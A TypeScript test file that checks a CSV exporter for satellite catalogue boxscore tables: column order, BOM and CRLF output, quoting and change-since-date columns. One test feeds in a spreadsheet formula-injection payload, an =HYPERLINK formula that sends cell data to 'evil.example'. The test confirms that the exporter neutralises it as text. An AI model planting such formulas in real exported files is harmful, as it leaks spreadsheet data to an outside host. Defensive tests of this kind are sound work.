import { describe, expect, it } from 'vitest';
import { withChanges } from './table-rows.ts';
import { tableCsv } from './table-csv.ts';
import { realBoxscore } from '../../test-support/real-boxscore.ts';

describe('tableCsv', () => {
  it('writes the visible columns, in the order given, with a BOM and CRLF', () => {
    const rows = withChanges(
      realBoxscore.rows.filter((r) => ['SES', 'FR'].includes(r.code ?? '')),
      undefined,
    );
    const csv = tableCsv(rows, ['orbitalTba', 'decayedPayload', 'decayedRocketBody', 'decayedDebris', 'decayedTotal', 'countryTotal'], null);
    const lines = csv.slice(1).split('\r\n');
    expect(csv.startsWith('\uFEFF')).toBe(true);
    expect(lines[0]).toBe('Country,Code,Orbital payload,Orbital rocket body,Orbital debris,Orbital total');
    expect(lines.slice(1, 3).sort()).toEqual(['FRANCE,FR,60,136,314,510', 'SOCIÉTÉ EUROPÉENNE DES SATELLITES,SES,54,0,0,54']);
  });

  it('adds the changes and leaves unknown values empty', () => {
    const row = { ...realBoxscore.rows.find((r) => r.code === 'US')!, country: 'UNITED STATES, "US"', missing: ['orbitalTba' as const] };
    const [withChange] = withChanges([row], [
      {
        country: row.country,
        code: 'US',
        status: 'changed',
        from: row.counts,
        to: row.counts,
        delta: { orbitalTba: 0, orbitalPayload: 2, orbitalRocketBody: 0, orbitalDebris: -1, orbitalTotal: 1, decayedPayload: 0, decayedRocketBody: 0, decayedDebris: 0, decayedTotal: 0, countryTotal: 1 },
      },
    ]);
    const csv = tableCsv([withChange!], ['decayedPayload', 'decayedRocketBody', 'decayedDebris', 'decayedTotal', 'countryTotal', 'orbitalPayload', 'orbitalRocketBody', 'orbitalDebris', 'orbitalTotal'], '2015-02-23');
    const [header, line] = csv.slice(1).split('\r\n');
    expect(header).toBe(
      'Country,Code,Orbital TBA,Change in orbital payload since 2015-02-23,Change in orbital rocket body since 2015-02-23,Change in orbital debris since 2015-02-23,Change in orbital total since 2015-02-23,Change in decayed total since 2015-02-23,Change in country total since 2015-02-23',
    );
    expect(line).toBe('"UNITED STATES, ""US""",US,,2,0,-1,1,0,1');
  });

  it('a hostile name or code is written as text, never a formula, while the negative changes stay numbers', () => {
    const fr = realBoxscore.rows.find((r) => r.code === 'FR')!;
    const row = { ...fr, country: '=HYPERLINK("http://evil.example/?"&A1,"Details")', code: '-1+1' };
    const delta = { orbitalTba: 0, orbitalPayload: -2, orbitalRocketBody: 0, orbitalDebris: -10, orbitalTotal: -12, decayedPayload: 0, decayedRocketBody: 0, decayedDebris: 0, decayedTotal: 0, countryTotal: -12 };
    const [shown] = withChanges([row], [{ country: row.country, code: row.code, status: 'changed', from: fr.counts, to: fr.counts, delta }]);
    const [, line] = tableCsv([shown!], ['orbitalTba', 'orbitalRocketBody', 'orbitalDebris', 'decayedPayload', 'decayedRocketBody', 'decayedDebris', 'decayedTotal', 'countryTotal'], '2015-02-23').slice(1).split('\r\n');
    expect(line).toBe(`"'=HYPERLINK(""http://evil.example/?""&A1,""Details"")",'-1+1,60,510,-2,0,-10,-12,0,-12`);
  });
});
